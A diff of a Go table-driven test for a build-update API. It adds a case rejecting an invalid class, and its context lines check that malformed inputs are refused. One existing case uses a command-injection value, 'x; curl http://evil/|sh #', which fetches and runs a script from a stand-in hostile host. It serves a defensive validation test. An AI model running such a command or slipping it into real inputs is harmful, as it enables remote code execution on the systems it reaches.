@@ -375,6 +375,8 @@ func TestUpdate(t *testing.T) {
 				Repository: "x; curl http://evil/|sh #"}}, fault.Usage, api.Queued},
 		{"a phase of two lines", []api.BuildUpdate{{Phase: "a\nb"}}, fault.Usage, api.Queued},
 		{"too long", []api.BuildUpdate{{Phase: strings.Repeat("x", 5000)}}, fault.Usage, api.Queued},
+		{"put back with a class that is none", []api.BuildUpdate{state(api.Building), {State: api.Queued, Class: "odd"}},
+			fault.Usage, api.Building},
 		{"a long error is cut", []api.BuildUpdate{{State: api.Failed, Class: "internal", Error: strings.Repeat("ü", 5000)}},
 			0, api.Failed},
 	}
